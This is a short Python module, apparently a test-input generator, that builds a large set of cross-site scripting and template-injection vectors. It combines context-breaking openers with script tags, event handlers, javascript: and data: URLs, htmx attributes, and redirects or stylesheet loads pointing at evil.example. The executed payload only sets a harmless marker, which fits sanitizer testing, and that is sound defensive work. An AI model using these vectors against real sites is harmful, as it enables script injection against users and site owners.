"""Two hundred and more ways to have a page run what it should show, put together from their parts."""

from itertools import product

RUN = "document.documentElement.dataset.evil=1"
_OPENERS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</option></select>",
)
_TAGS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<input autofocus onfocus={RUN}>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<div hx-get=https://evil.example/ hx-trigger=load hx-on::load={RUN}>",
)
_BARE = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f'" hx-on:load="{RUN}',
    "{{ 7 * 191 }}",
    "{% raw %}",
    "${7*191}",
    "\u202e\u2066<script>\u2069",
    "\u200bad\u200da",
    "\x1b[2J\x00",
    "&lt;script&gt;",
    "%3Cscript%3E",
)
VECTORS = [opener + tag for opener, tag in product(_OPENERS, _TAGS)] + list(_BARE)
